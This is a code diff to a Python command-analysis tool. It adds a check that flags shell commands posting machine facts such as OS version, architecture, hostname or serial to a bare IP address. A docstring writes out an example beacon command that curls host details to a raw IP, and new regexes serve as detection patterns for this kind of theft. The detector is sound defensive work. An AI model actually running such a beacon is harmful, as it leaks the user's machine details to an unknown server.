@@ -25,6 +25,7 @@
 
 from __future__ import annotations
 
+import itertools
 import os
 import posixpath
 import re
@@ -249,7 +250,10 @@ def _upload(invocation: Invocation, home: str) -> Verdict | None:
                 if what and (candidate != value or _sends_file(values, index)):
                     return _verdict(EXFILTRATION, invocation, f"{name} uploads {what}")
         return (
-            _substituted(invocation, home) or _encoded_host(invocation) or _query_to_raw_address(invocation)
+            _substituted(invocation, home)
+            or _encoded_host(invocation)
+            or _query_to_raw_address(invocation)
+            or _posted_to_raw_address(invocation)
         )
     batch = _batch_upload([], invocation, home)
     if batch:
@@ -494,6 +498,40 @@ def _query_to_raw_address(invocation: Invocation) -> Verdict | None:
             return _verdict(
                 EXFILTRATION, invocation, f"sends run-time data in the query of a URL to {match['host']}"
             )
+    return None
+
+
+_RAW_ADDRESS_HOST = lazy_compile(
+    r"^(?:https?://)?(?:[^/@?#]*@)?(?P<host>\d{1,3}(?:\.\d{1,3}){3}|\[[0-9a-f:.]+\])(?::\d+)?(?:[/?#]|$)",
+    re.IGNORECASE,
+)
+_HOST_FACTS = lazy_compile(
+    r"""(?:^|[{,&\s"'])["']?(?:host_?name|computer_?name|user_?name|whoami|os_?version|os_?build|arch|locale"""
+    r"""|serial(?:_?number)?|hw_?uuid|machine_?id|mac_?address|local_?ip|ip_?address)["']?\s*[:=]""",
+    re.IGNORECASE,
+)
+"""A body's keys that describe the machine: ``{"os_version": ..., "arch": ..., "locale": ...}``."""
+
+
+def _posted_to_raw_address(invocation: Invocation) -> Verdict | None:
+    """``curl -d '{"os_version":"26.4","arch":"arm64",...}' http://188.166.83.118/api``: a beacon.
+
+    The host's facts posted, as a form or JSON, to a server that has only an address on the
+    internet: a stealer or implant reporting in (its body was filled before the shell saw it,
+    so the values are literal). A body of run-time values counts as well, as in the query.
+    """
+    command = invocation.command
+    values = [command.render(word) for word in invocation.args]
+    host = next(
+        (m["host"] for v in values if (m := _RAW_ADDRESS_HOST.match(v)) and _on_the_internet(m["host"])), None
+    )
+    if host is None:
+        return None
+    for option, body in itertools.pairwise(values):
+        if not _DATA_OPTION.match(option) or body.startswith("@"):
+            continue  # -d @file is an upload, judged by what the file is
+        if _HOST_FACTS.search(body) or _RUN_TIME_VALUE.search(body):
+            return _verdict(UPLOAD, invocation, f"posts facts about this machine to {host}, a bare address")
     return None
 
 
@@ -833,7 +871,7 @@ def _interpreter_file(invocation: Invocation) -> str | None:
         ):
             return None
         if value in ("-W", "-X", "-I", "--require", "-d", "-C", "-x", "-f") or (
-            name.startswith("ruby") and value == "-r"
+            (ruby and value == "-r") or (name == "osascript" and value in ("-l", "-s"))
         ):
             skip = value != "-f"
             if value == "-f":
